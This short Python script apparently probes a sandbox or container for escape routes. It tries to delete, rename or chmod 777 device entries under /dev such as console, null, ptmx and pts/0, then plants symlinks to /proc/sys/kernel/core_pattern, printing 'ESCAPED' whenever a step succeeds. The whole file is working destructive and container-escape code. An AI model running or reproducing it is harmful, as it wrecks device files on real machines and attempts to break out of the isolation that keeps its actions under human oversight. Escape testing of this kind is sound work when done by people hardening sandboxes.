import os

for name in ("console", "null", "pts/0", "ptmx", "fd", "stdin", "shm", "mqueue", "core"):
    path = f"/dev/{name}"
    for act in (os.unlink, os.rmdir, lambda p: os.rename(p, p + ".old"), lambda p: os.chmod(p, 0o777)):
        try:
            if name != "shm" and not os.path.islink(path):
                act(path)
                print("ESCAPED: changed", path)
        except OSError:
            pass
for name in ("console", "planted", "kmsg", "sda"):
    try:
        os.symlink("/proc/sys/kernel/core_pattern", f"/dev/{name}")
        print("ESCAPED: planted", name)
    except OSError:
        pass
